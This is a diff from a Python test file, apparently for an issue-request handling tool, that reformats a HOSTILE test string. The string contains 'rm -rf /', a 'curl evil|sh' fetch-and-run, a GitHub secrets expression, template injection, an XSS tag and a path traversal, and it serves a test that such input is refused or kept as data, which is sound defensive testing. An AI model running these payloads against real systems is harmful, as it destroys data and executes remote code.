@@ -211,7 +211,10 @@ def test_an_invalid_issue_request_gets_a_comment_naming_the_bad_field(repo, forg
     assert "request refused" in out
 
 
-HOSTILE = "`x`; rm -rf / $(curl evil|sh) ${{ secrets.GITHUB_TOKEN }} {{ 7*7 }} <script>alert(1)</script> @everyone\n### Name\n../../etc/passwd"
+HOSTILE = (
+    "`x`; rm -rf / $(curl evil|sh) ${{ secrets.GITHUB_TOKEN }} {{ 7*7 }} "
+    "<script>alert(1)</script> @everyone\n### Name\n../../etc/passwd"
+)
 
 
 def test_hostile_text_in_every_field_is_refused_or_kept_as_data(repo, forge, tmp_path):
